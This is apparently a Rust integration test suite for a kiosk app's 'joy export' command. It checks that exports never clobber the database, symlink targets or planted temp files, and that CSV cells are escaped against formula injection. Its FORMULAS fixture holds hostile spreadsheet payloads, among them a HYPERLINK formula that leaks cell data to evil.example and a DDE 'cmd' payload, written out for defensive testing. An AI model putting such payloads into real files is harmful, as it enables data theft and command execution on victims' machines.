//! `joy export --out` never destroys the database or anything else, and a
//! CSV export never carries a live spreadsheet formula. Each test runs the
//! real binary on temporary files.

use joy_kiosk::store::export::{self, is_database_file, spreadsheet_cell, write_export};
use joy_kiosk::store::{NewCheckin, SavedAnswer, SavedScore, Store};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn joy_in(dir: &Path, args: &[&str], db: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_joy"))
        .args(args)
        .current_dir(dir)
        .env("JOY_DB", db)
        .env("JOY_QUESTIONNAIRES", dir.join("no-questionnaires"))
        .env("XDG_CONFIG_HOME", dir.join("no-config"))
        .env_remove("JOY_CONFIG")
        .env("NO_COLOR", "1")
        .output()
        .expect("run joy")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// A database with a week of demo check-ins, in `dir`.
fn demo_db(dir: &Path) -> PathBuf {
    let db = dir.join("joy.db");
    let o = joy_in(dir, &["demo", "--days", "7", "--yes"], &db);
    assert!(o.status.success(), "{}", stderr(&o));
    db
}

/// How many check-ins `joy history --json` reads from `db`.
fn checkins(dir: &Path, db: &Path) -> usize {
    let o = joy_in(dir, &["history", "--json"], db);
    assert!(
        o.status.success(),
        "the database still opens: {}",
        stderr(&o)
    );
    serde_json::from_slice::<serde_json::Value>(&o.stdout)
        .expect("history is JSON")
        .as_array()
        .map(Vec::len)
        .unwrap_or(0)
}

/// Names in `dir`, sorted, without the -wal/-shm files SQLite itself keeps
/// beside the database while reading it.
fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n != "joy.db-wal" && n != "joy.db-shm")
        .collect();
    v.sort();
    v
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[test]
fn export_out_refuses_the_database_and_its_wal_and_shm_by_any_spelling() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = demo_db(d);
    let before = checkins(d, &db);
    assert!(before > 0);
    let bytes = std::fs::read(&db).unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    let abs = db.to_str().unwrap().to_string();
    let mut spellings: Vec<String> = vec![
        abs.clone(),
        "joy.db".into(),
        "./joy.db".into(),
        "sub/../joy.db".into(),
        "./sub/.././joy.db".into(),
        "joy.db-wal".into(),
        "joy.db-shm".into(),
        format!("{abs}-wal"),
        "./joy.db-shm".into(),
    ];
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&db, d.join("link.csv")).unwrap();
        std::os::unix::fs::symlink("sub/../joy.db", d.join("sub-link.csv")).unwrap();
        std::fs::hard_link(&db, d.join("hard.csv")).unwrap();
        spellings.extend(["link.csv".into(), "sub-link.csv".into(), "hard.csv".into()]);
    }
    for format in ["csv", "csv-long", "json"] {
        for out in &spellings {
            for force in [false, true] {
                let mut args = vec!["export", "--format", format, "--out", out.as_str()];
                if force {
                    args.push("--force");
                }
                let o = joy_in(d, &args, &db);
                assert_eq!(o.status.code(), Some(2), "{args:?} must be refused");
                assert!(
                    stderr(&o).contains("is your database")
                        && stderr(&o).contains("Nothing was written"),
                    "{args:?}: {}",
                    stderr(&o)
                );
            }
        }
    }
    assert_eq!(
        std::fs::read(&db).unwrap(),
        bytes,
        "the database is untouched"
    );
    assert_eq!(checkins(d, &db), before);
    // No -wal or -shm was replaced by an export either: SQLite still reads them.
    for suffix in ["-wal", "-shm"] {
        let p = d.join(format!("joy.db{suffix}"));
        if let Ok(b) = std::fs::read(&p) {
            assert!(
                !String::from_utf8_lossy(&b).contains("checkin_id"),
                "{suffix} holds no CSV"
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn a_database_reached_through_a_symlink_is_refused_under_its_real_name_too() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let real = demo_db(d);
    let before = checkins(d, &real);
    std::fs::create_dir(d.join("elsewhere")).unwrap();
    let via = d.join("elsewhere/my.db");
    std::os::unix::fs::symlink(&real, &via).unwrap();
    for out in ["joy.db", "joy.db-wal", "elsewhere/my.db"] {
        let o = joy_in(d, &["export", "--format", "csv", "--out", out], &via);
        assert_eq!(o.status.code(), Some(2), "{out}: {}", stderr(&o));
        assert!(stderr(&o).contains("is your database"), "{}", stderr(&o));
    }
    assert_eq!(checkins(d, &real), before);
}

#[test]
fn an_existing_output_is_replaced_only_with_force() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = demo_db(d);
    let out = d.join("export.csv");
    std::fs::write(&out, "keep me").unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let o = joy_in(
        d,
        &["export", "--format", "csv", "--out", "export.csv"],
        &db,
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("export.csv already exists") && stderr(&o).contains("--force"),
        "{}",
        stderr(&o)
    );
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "keep me");

    let o = joy_in(
        d,
        &[
            "export",
            "--format",
            "csv",
            "--out",
            "export.csv",
            "--force",
        ],
        &db,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let csv = std::fs::read_to_string(&out).unwrap();
    assert!(csv.starts_with("\u{feff}checkin_id,"), "{csv}");
    #[cfg(unix)]
    assert_eq!(mode(&out), 0o600, "the replacement is private");
    assert_eq!(
        listing(d)
            .iter()
            .filter(|n| n.contains("joy-export") || n.contains("tmp"))
            .count(),
        0,
        "no temporary file is left: {:?}",
        listing(d)
    );
}

#[cfg(unix)]
#[test]
fn an_existing_symlink_is_replaced_with_force_never_followed() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = demo_db(d);
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    std::os::unix::fs::symlink(&victim, d.join("out.csv")).unwrap();
    let o = joy_in(d, &["export", "--format", "json", "--out", "out.csv"], &db);
    assert_eq!(o.status.code(), Some(2), "a symlink counts as existing");
    let o = joy_in(
        d,
        &["export", "--format", "json", "--out", "out.csv", "--force"],
        &db,
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    let meta = std::fs::symlink_metadata(d.join("out.csv")).unwrap();
    assert!(meta.is_file(), "the link itself was replaced by the export");
    assert_eq!(mode(&d.join("out.csv")), 0o600);
}

/// Files or symlinks planted where a predictable temporary file would go
/// (`export.tmp-joy` was one) change nothing: the export uses a new file
/// with a random name, created exclusively.
#[cfg(unix)]
#[test]
fn a_planted_file_or_symlink_at_a_temporary_name_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = demo_db(d);
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    // Symlinks at the names a naive exporter would use for export.csv...
    for name in [
        "export.tmp-joy",
        "export.csv.tmp",
        ".export.csv.tmp",
        "export.csv~",
    ] {
        std::os::unix::fs::symlink(&victim, d.join(name)).unwrap();
    }
    // ...and a planted regular file for the second export.
    std::fs::write(d.join("other.tmp-joy"), "planted").unwrap();
    let before = listing(d);
    for out in ["export.csv", "other.json"] {
        let o = joy_in(d, &["export", "--format", "csv", "--out", out], &db);
        assert!(o.status.success(), "{out}: {}", stderr(&o));
        assert_eq!(mode(&d.join(out)), 0o600);
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert_eq!(
        std::fs::read_to_string(d.join("other.tmp-joy")).unwrap(),
        "planted"
    );
    for name in ["export.tmp-joy", "export.csv.tmp"] {
        assert_eq!(std::fs::read_link(d.join(name)).unwrap(), victim);
    }
    let mut want = before.clone();
    want.extend(["export.csv".to_string(), "other.json".to_string()]);
    want.sort();
    assert_eq!(listing(d), want, "only the two exports were added");
}

#[test]
fn out_naming_a_folder_is_an_error_and_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = demo_db(d);
    std::fs::create_dir(d.join("reports")).unwrap();
    let before = listing(d);
    for out in ["reports", "reports/", "./reports/.", ".", "new-folder/"] {
        for force in [false, true] {
            let mut args = vec!["export", "--format", "csv", "--out", out];
            if force {
                args.push("--force");
            }
            let o = joy_in(d, &args, &db);
            assert_eq!(o.status.code(), Some(2), "{args:?}");
            assert!(
                stderr(&o).contains("is a folder") && stderr(&o).contains("Nothing was written"),
                "{args:?}: {}",
                stderr(&o)
            );
        }
    }
    assert_eq!(listing(d), before, "nothing left beside the folder");
    assert!(listing(&d.join("reports")).is_empty(), "nothing inside it");
    assert!(!d.join("new-folder").exists());

    let o = joy_in(
        d,
        &["export", "--format", "csv", "--out", "missing/out.csv"],
        &db,
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("the folder missing does not exist"),
        "{}",
        stderr(&o)
    );
    assert_eq!(listing(d), before);
}

#[test]
fn write_export_checks_before_writing_and_writes_whole_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = d.join("joy.db");
    std::fs::write(&db, "not really a database").unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    assert!(is_database_file(&d.join("sub/../joy.db"), &db));
    assert!(is_database_file(&d.join("joy.db-journal"), &db));
    assert!(!is_database_file(&d.join("joy.db.csv"), &db));
    assert!(!is_database_file(&d.join("joy"), &db));
    let e = write_export(&db, b"x", &db, true).unwrap_err();
    assert!(matches!(e, export::ExportFileError::IsDatabase { .. }));
    let out = d.join("a.csv");
    write_export(&out, b"one", &db, false).unwrap();
    assert!(matches!(
        write_export(&out, b"two", &db, false),
        Err(export::ExportFileError::Exists { .. })
    ));
    write_export(&out, b"three", &db, true).unwrap();
    assert_eq!(std::fs::read(&out).unwrap(), b"three");
    assert_eq!(std::fs::read(&db).unwrap(), b"not really a database");
}

// ---- CSV cells that a spreadsheet would run as formulas -----------------

const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
];

/// A check-in whose answers and score carry formula-like text; the score's
/// value is a plain negative number, which must stay a number.
fn hostile_checkin(store: &mut Store) -> NewCheckin {
    let me = store.local_respondent().unwrap();
    let at = chrono::Utc::now();
    NewCheckin {
        respondent: Some(me),
        team: None,
        period: None,
        questionnaire_id: "notes".into(),
        questionnaire_version: "1".into(),
        file_hash: "h".into(),
        definition: "".into(),
        started_at: at,
        completed_at: at,
        is_demo: false,
        imported_from: None,
        answers: FORMULAS
            .iter()
            .enumerate()
            .map(|(i, f)| SavedAnswer {
                question_id: format!("q{i}"),
                position: i as i64,
                value: serde_json::json!(f),
                label: f.to_string(),
            })
            .collect(),
        scores: vec![SavedScore {
            score_id: "balance".into(),
            label: "=2+3".into(),
            raw: Some(-3.0),
            value: Some(-3.5),
            band_label: Some("@band".into()),
            band_tone: Some("alert".into()),
        }],
        seal: None,
    }
}

/// Split CSV text (RFC 4180) into rows of cells.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut field)),
            ('\r', false) if chars.peek() == Some(&'\n') => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    rows
}

#[test]
fn csv_cells_that_look_like_formulas_are_written_as_text_in_both_layouts() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let db = d.join("joy.db");
    {
        let mut s = Store::open(&db).unwrap();
        let c = hostile_checkin(&mut s);
        s.save_checkin(&c).unwrap();
    }
    for format in ["csv", "csv-long"] {
        let o = joy_in(d, &["export", "--format", format], &db);
        assert!(o.status.success(), "{}", stderr(&o));
        let text = String::from_utf8(o.stdout).unwrap();
        let cells: Vec<String> = csv_rows(&text).into_iter().flatten().collect();
        for f in FORMULAS {
            assert!(
                cells.contains(&format!("'{f}")),
                "{format}: {f:?} is written as text, with a leading quote: {cells:?}"
            );
            assert!(!cells.contains(&f.to_string()), "{format}: {f:?} raw");
        }
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    || c.parse::<f64>().is_ok()),
            "{format}: no cell starts a formula: {cells:?}"
        );
        // A plain negative number stays a number.
        assert!(cells.contains(&"-3.5".to_string()), "{format}: {cells:?}");
        assert!(cells.contains(&"'@band".to_string()), "{format}");
    }
    // JSON keeps the text exactly.
    let o = joy_in(d, &["export", "--format", "json"], &db);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let labels: Vec<&str> = v["checkins"][0]["answers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["label"].as_str().unwrap())
        .collect();
    assert_eq!(labels, FORMULAS);
}

#[test]
fn spreadsheet_cell_prefixes_only_what_a_spreadsheet_would_run() {
    for (cell, want) in [
        ("=1+1", "'=1+1"),
        ("+44 300", "'+44 300"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("-3", "-3"),
        ("-0.25", "-0.25"),
        ("-1e5", "'-1e5"),
        ("-3.", "'-3."),
        ("--3", "'--3"),
        ("x=1", "x=1"),
        ("'quoted", "'quoted"),
        ("", ""),
        ("Café", "Café"),
    ] {
        assert_eq!(spreadsheet_cell(cell), want, "{cell:?}");
    }
}
